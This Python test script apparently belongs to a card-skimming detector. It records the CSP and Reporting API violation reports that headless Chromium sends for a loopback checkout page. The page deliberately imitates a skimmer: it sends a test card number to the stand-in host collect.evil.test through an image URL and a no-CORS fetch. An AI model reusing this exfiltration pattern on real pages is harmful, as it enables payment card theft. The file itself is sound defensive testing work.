"""Record the report bodies the real Chromium sends, for the collector's fixtures.

A loopback HTTPS server (a throwaway self-signed certificate made with the ``openssl`` command)
serves a checkout page twice:

* ``/legacy``: ``Content-Security-Policy-Report-Only`` with ``report-uri /csp`` only, so Chromium
  POSTs ``application/csp-report`` bodies, one per violation, at once;
* ``/checkout``: the same policy with ``report-uri /csp; report-to csp-endpoint``, a
  ``Reporting-Endpoints`` header (``csp-endpoint`` and ``default``), ``'report-sha256'`` in
  ``script-src`` and ``Integrity-Policy-Report-Only``, so Chromium batches
  ``application/reports+json`` bodies (and ignores ``report-uri``).

The page has an inline script, a same-origin script, a CORS and a no-CORS script from
``cdn.vendor.test``, an image and a fetch to ``collect.evil.test``, an ``eval``, a synchronous XHR
(a deprecation) and ``navigator.vibrate`` without a tap (an intervention).

What Chromium needs for the Reporting API to deliver at all (found while writing this):
a secure context and HTTPS endpoint (on plain http with ``report-to`` it sends nothing, not even
to ``report-uri``), the ``background-sync`` permission on the context, and
``--short-reporting-delay`` (otherwise batches wait about a minute).

Run ``.venv/bin/python tests/collector/record_reports.py`` to rewrite ``fixtures/``; the loopback
port is replaced by 8443 so that fixtures are stable, the rest is byte for byte what was received.
The browser test in ``test_reports.py`` uses :func:`record` live.
"""

from __future__ import annotations

import asyncio
import json
import shutil
import ssl
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path

from playwright.async_api import async_playwright

from skimguard.capture.browser import CHROMIUM_PATH, launch_args
from skimguard.loopback import LoopbackHandler, LoopbackServer

SHOP, CDN, EVIL = "shop.test", "cdn.vendor.test", "collect.evil.test"
HOSTS = {SHOP: "127.0.0.1", CDN: "127.0.0.1", EVIL: "127.0.0.1"}
FIXED_PORT = 8443
FIXTURES = Path(__file__).parent / "fixtures"
EXTRA_ARGS = ("--short-reporting-delay", "--ignore-certificate-errors")

POLICY = (
    "default-src 'self'; script-src 'self' 'report-sha256' 'report-sample'; "
    "img-src 'self'; connect-src 'self'; report-uri /csp"
)

PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>checkout</title>
<script src="/app.js"></script>
<script src="https://cdn.vendor.test:{port}/lib.js" crossorigin="anonymous"></script>
<script src="https://cdn.vendor.test:{port}/nocors.js"></script>
</head><body><p>Pay</p>
<script>var card = document.title + " 4111 1111 1111 1111 typed by the shopper";</script>
<img src="https://collect.evil.test:{port}/px.gif?c=4111111111111111#x">
<script>fetch("https://collect.evil.test:{port}/c?x=1#frag", {{method: "POST", body: "x", mode: "no-cors"}});</script>
<script>try {{ eval("1 + 1"); }} catch (e) {{}}</script>
<script>var q = new XMLHttpRequest(); q.open("GET", "/app.js", false); q.send(); \
try {{ navigator.vibrate(50); }} catch (e) {{}}</script>
</body></html>"""


@dataclass(frozen=True)
class Received:
    at: float
    path: str
    content_type: str
    body: bytes


class _Server(LoopbackServer):
    def __init__(self) -> None:
        self.received: list[Received] = []
        self.lock = threading.Lock()
        super().__init__(0, _Handler)


class _Handler(LoopbackHandler):
    server: _Server

    def _dispatch(self) -> None:
        length = min(int(self.headers.get("Content-Length") or 0), 65536)
        body = self.rfile.read(length) if length else b""
        path = self.path.split("?", 1)[0]
        port = self.server.port
        headers = {"Content-Type": "text/plain"}
        out = b"ok"
        if path in ("/csp", "/reports"):
            if self.command == "POST":
                with self.server.lock:
                    self.server.received.append(
                        Received(time.monotonic(), path, self.headers.get("Content-Type") or "", body)
                    )
            self.send_response(204)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if path in ("/legacy", "/checkout"):
            out = PAGE.format(port=port).encode()
            headers = {"Content-Type": "text/html; charset=utf-8", "Content-Security-Policy-Report-Only": POLICY}
            if path == "/checkout":
                endpoint = f"https://{SHOP}:{port}/reports"
                headers["Content-Security-Policy-Report-Only"] += "; report-to csp-endpoint"
                headers["Reporting-Endpoints"] = f'csp-endpoint="{endpoint}", default="{endpoint}"'
                headers["Integrity-Policy-Report-Only"] = "blocked-destinations=(script), endpoints=(csp-endpoint)"
        elif path.endswith(".js"):
            out = b"window.loaded = (window.loaded || 0) + 1;\n"
            headers = {"Content-Type": "application/javascript"}
            if path != "/nocors.js":
                headers["Access-Control-Allow-Origin"] = "*"
        elif path == "/px.gif":
            out, headers = b"GIF89a", {"Content-Type": "image/gif"}
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)


def _tls_context(directory: Path) -> ssl.SSLContext:
    key, cert = directory / "key.pem", directory / "cert.pem"
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", str(key), "-out", str(cert),
         "-days", "1", "-subj", f"/CN={SHOP}", "-addext", "subjectAltName=" + ",".join(f"DNS:{h}" for h in HOSTS)],
        check=True, capture_output=True, timeout=60,
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(cert, key)
    return context


def openssl_available() -> bool:
    return shutil.which("openssl") is not None


async def _drive(port: int, server: _Server, quiet: float, timeout: float) -> str:
    async with async_playwright() as pw:
        browser = await pw.chromium.launch(
            executable_path=CHROMIUM_PATH,
            headless=True,
            args=[*launch_args(HOSTS, block_unmapped=True), *EXTRA_ARGS],
            timeout=60_000,
        )
        try:
            context = await browser.new_context(ignore_https_errors=True, permissions=["background-sync"])
            page = await context.new_page()
            for name in ("legacy", "checkout"):
                with server.lock:
                    seen = len(server.received)
                await page.goto(f"https://{SHOP}:{port}/{name}", timeout=15_000)
                await _wait_quiet(server, seen, quiet, timeout)
            await context.close()
            return browser.version
        finally:
            await browser.close()


async def _wait_quiet(server: _Server, seen: int, quiet: float, timeout: float) -> None:
    """Wait until more than ``seen`` bodies arrived and then none for ``quiet`` s; at most ``timeout`` s."""
    start = time.monotonic()
    while time.monotonic() - start < timeout:
        await asyncio.sleep(0.25)
        with server.lock:
            count, last = len(server.received), (server.received[-1].at if server.received else start)
        if count > seen and time.monotonic() - last >= quiet:
            return


def record(*, quiet: float = 3.0, timeout: float = 20.0) -> tuple[str, int, list[Received]]:
    """Serve, browse with Chromium, and return (browser version, port, report bodies received)."""
    with tempfile.TemporaryDirectory() as tmp:
        tls = _tls_context(Path(tmp))
        server = _Server()
        server.socket = tls.wrap_socket(server.socket, server_side=True)
        server.serve_in_background("record-reports")
        try:
            version = asyncio.run(_drive(server.port, server, quiet, timeout))
        finally:
            server.stop()
    with server.lock:
        return version, server.port, list(server.received)


def fixed_port(received: Received, port: int) -> str:
    """The body as text with the loopback port replaced by FIXED_PORT."""
    return received.body.decode("utf-8").replace(f":{port}", f":{FIXED_PORT}")


def main() -> int:
    version, port, received = record()
    FIXTURES.mkdir(exist_ok=True)
    counts: dict[str, int] = {}
    for item in received:
        label = "csp-report" if item.path == "/csp" else "reports"
        counts[label] = counts.get(label, 0) + 1
        fixture = {
            "recorded_with": f"Chromium {version}, loopback port replaced by {FIXED_PORT}",
            "content_type": item.content_type,
            "body": fixed_port(item, port),
        }
        target = FIXTURES / f"chromium-{label}-{counts[label]:02d}.json"
        target.write_text(json.dumps(fixture, indent=1, ensure_ascii=False) + "\n", encoding="utf-8")
        print(target.name, item.content_type, len(item.body))
    return 0


if __name__ == "__main__":
    sys.exit(main())
